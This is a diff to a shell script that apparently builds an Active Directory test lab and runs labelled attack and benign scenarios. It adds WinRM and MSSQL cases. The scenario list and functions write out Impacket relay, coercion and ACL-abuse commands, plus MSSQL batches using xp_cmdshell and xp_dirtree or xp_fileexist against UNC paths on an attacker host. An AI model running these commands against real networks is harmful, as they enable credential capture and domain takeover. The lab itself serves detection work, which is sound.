@@ -70,7 +70,7 @@ APACHE=$STATE/apache
 
 ISL_PKGS=(python3-pyasn1 python3-pyasn1-modules python3-pycryptodome python3-ldap3 python3-flask
           python3-openssl python3-six python3-charset-normalizer python3-ldapdomaindump python3-dnspython
-          python3-cryptography python3-requests-ntlm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git)
+          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git)
 
 # ---------------------------------------------------------------- Impacket versions
 impacket_source() {
@@ -166,6 +166,7 @@ apache_conf() {
   printf 'Microsoft Active Directory Certificate Services - LAB-CA\n' > "$APACHE/htdocs/certsrv/index.html"
   printf 'certificate request received\n' > "$APACHE/htdocs/certsrv/certfnsh.asp"
   printf 'intranet\n' > "$APACHE/htdocs/index.html"
+  : > "$APACHE/htdocs/wsman"
   # DOMAIN:USER:PASSWORD per line (gss-ntlmssp's user file)
   printf '%s:%s:%s\n' "$DOMAIN" da_carol "$CAROL_PW" "$DOMAIN" alice "$ALICE_PW" "$DOMAIN" Administrator "$ADMIN_PW" \
     > "$APACHE/ntlm-users"
@@ -176,6 +177,7 @@ apache_conf() {
 ServerName $DCFQDN
 ServerRoot $APACHE
 Listen $DC_IP:80
+Listen $DC_IP:5985
 PidFile $APACHE/run/httpd.pid
 DefaultRuntimeDir $APACHE/run
 Mutex file:$APACHE/lock default
@@ -206,6 +208,15 @@ DirectoryIndex index.html
   GssapiConnectionBound On
   Require valid-user
 </Location>
+# WinRM's endpoint (MS-WSMV over HTTP on 5985) as a stand-in: NTLM is checked, then every POST
+# gets the empty file's 200 (there is no WS-Management behind it).
+<Location /wsman>
+  AuthType GSSAPI
+  AuthName "WSMAN"
+  GssapiAllowedMech ntlmssp
+  GssapiConnectionBound On
+  Require valid-user
+</Location>
 EOF
 }
 apache_pid() {
@@ -216,7 +227,11 @@ apache_pid() {
   echo "$pid"
 }
 apache_start() {
-  apache_pid >/dev/null && return 0
+  if apache_pid >/dev/null; then
+    # a service started before /wsman existed is restarted with the current configuration
+    indc ss -Hltn | grep -q "$DC_IP:5985 " && return 0
+    apache_stop
+  fi
   apache_conf
   indc env NTLM_USER_FILE="$APACHE/ntlm-users" apache2 -f "$APACHE/httpd.conf" -k start
   local i; for i in $(seq 1 40); do indc ss -Hltn | grep -q "$DC_IP:80 " && break; sleep 0.25; done
@@ -299,10 +314,11 @@ ISL_SCENARIOS=(
   "atk_relay_http_to_smb|attack|010 014|ntlm_relay|ntlmrelayx HTTP listener; victim da_carol@ws01 curl --ntlm; relayed to SMB on dc1"
   "atk_relay_http_to_ldap|attack|010 014|ntlm_relay|ntlmrelayx HTTP listener; victim da_carol@ws01 curl --ntlm; relayed to LDAP on dc1, --escalate-user alice (DCSync ACE on the domain object)"
   "atk_relay_smb_to_http|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to the NTLM web service http://dc1/certsrv/ (Apache mod_auth_gssapi + gss-ntlmssp), --adcs certificate request post"
-  "atk_relay_smb_to_mssql|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to mssql://ws01:1433 (lab TDS responder), -q queries"
+  "atk_relay_smb_to_mssql|attack|010 014|ntlm_relay&mssql_abuse|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to mssql://ws01:1433 (lab TDS responder), -q queries"
   "atk_coerce|attack|010 014|coercion|MS-EFSR EfsRpcOpenFileRaw/EfsRpcEncryptFileSrv over \\pipe\\lsarpc, EfsRpcOpenFileRaw over \\pipe\\efsrpc, MS-RPRN RpcRemoteFindFirstPrinterChangeNotificationEx, MS-DFSNM NetrDfsRemoveStdRoot with UNC paths naming the attacker (alice); then DC1\$ authenticates over SMB to the attacker's smbserver.py"
   "atk_coerce_relay|attack|010 014|coercion&ntlm_relay|ntlmrelayx SMB listener relaying to mssql://ws01 (lab TDS responder, DC1\$ a login there); coercion (EfsRpcOpenFileRaw over \\pipe\\lsarpc, RpcRemoteFindFirstPrinterChangeNotificationEx) naming the attacker (alice); DC1\$ authenticates to the attacker and is relayed to MSSQL"
-  "atk_mssqlclient|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder on ws01: NTLM in LOGIN7 SSPI, batches select @@version, enable_xp_cmdshell, xp_cmdshell whoami, xp_dirtree \\\\10.99.0.2\\share"
+  "atk_mssqlclient|attack|010 014|mssql_abuse&coercion|mssqlclient.py -windows-auth da_carol to the lab TDS responder on ws01: NTLM in LOGIN7 SSPI, batches select @@version, enable_xp_cmdshell (sp_configure 'xp_cmdshell' 1), xp_cmdshell whoami, xp_dirtree / xp_fileexist / xp_subdirs on UNC paths naming the attacker (\\\\10.99.0.2\\share)"
+  "atk_mssqlclient_badpw|attack|010 014|optional|mssqlclient.py -windows-auth with a wrong password for da_carol to the lab TDS responder: NTLM in LOGIN7 SSPI answered with ERROR 18456 (Login failed), the session ends"
   "atk_dacledit|attack|014|acl_abuse|dacledit.py -action write -rights DCSync -principal alice on DC=lab,DC=test, then -action read (Administrator, LDAP NTLM)"
   "atk_owneredit|attack|014|acl_abuse|owneredit.py -action write -new-owner alice -target bob, then -action read (Administrator, LDAP NTLM)"
   "atk_rbcd|attack|010 014|rbcd_abuse|rbcd.py -delegate-from EVILPC\$ -delegate-to DC1\$ -action write then read (Administrator)"
@@ -345,6 +361,7 @@ ISL_SCENARIOS=(
   "ben_admin_rpcclient_users|benign|-|none|an admin on ws01 lists domain users and groups with Samba's rpcclient (SAMR enumdomusers, enumdomgroups, queryuser)"
   "ben_admin_dsacl|benign|-|none|an admin on ws01 reads the domain object's ACL with samba-tool dsacl get and queries users with samba-tool over LDAP"
   "atk_mssqlclient_tls|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder with login-only encryption (PRELOGIN ENCRYPT_OFF, the default of SQL Server): TLS handshake in PRELOGIN packets, LOGIN7 (NTLM NEGOTIATE) encrypted, the SSPI AUTHENTICATE and the batches select @@version, xp_cmdshell whoami in cleartext"
+  "ben_winrm_ntlm|benign|-|none|Administrator on ws01 runs ipconfig over WinRM with NTLM (Debian's python3-winrm, transport ntlm) against http://dc1:5985/wsman; the lab's stand-in endpoint (Apache + gss-ntlmssp) checks the NTLMv2 response, then answers every POST with an empty 200 (no WS-Management behind it)"
   "ben_http_ntlm|benign|-|none|da_carol and alice on ws01 open http://dc1/certsrv/ with python3-requests-ntlm (plain HTTP NTLM logins to an intranet site, Apache mod_auth_gssapi + gss-ntlmssp)"
 )
 
@@ -434,10 +451,19 @@ EOF
 sc_atk_mssqlclient() {
   tds_start
   printf '%s\n' 'select @@version' 'enable_xp_cmdshell' 'xp_cmdshell whoami' \
-    "EXEC master..xp_dirtree '\\\\$ATK_IP\\share'" 'exit' > sql.txt
+    "EXEC master..xp_dirtree '\\\\$ATK_IP\\share'" "EXEC master.dbo.xp_fileexist '\\\\$ATK_IP\\share\\report.xlsx'" \
+    "EXEC xp_subdirs '\\\\$ATK_IP\\share\\'" 'exit' > sql.txt
   echo "+ (sql.txt: $(paste -sd';' sql.txt))"
   # shellcheck disable=SC2046
   X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
+  tds_stop
+}
+sc_atk_mssqlclient_badpw() {
+  tds_start
+  printf '%s\n' 'select @@version' 'exit' > sql.txt
+  echo "+ (sql.txt: $(paste -sd';' sql.txt))"
+  # shellcheck disable=SC2046
+  X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:Wrong.Passw0rd!@$VIC_IP" || true
   tds_stop
 }
 sc_atk_mssqlclient_tls() {
@@ -447,6 +473,10 @@ sc_atk_mssqlclient_tls() {
   # shellcheck disable=SC2046
   X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
   tds_stop
+}
+sc_ben_winrm_ntlm() {
+  X winrm-ntlm vic env OPENSSL_CONF="$TOOLS/openssl-legacy.cnf" /usr/bin/python3 "$TOOLS/winrm_run.py" \
+    "http://$DCFQDN:5985/wsman" "$DOMAIN\\Administrator" "$ADMIN_PW" ipconfig || true
 }
 sc_ben_http_ntlm() {
   X http-ntlm-carol vic env OPENSSL_CONF="$TOOLS/openssl-legacy.cnf" /usr/bin/python3 "$TOOLS/http_ntlm_get.py" \
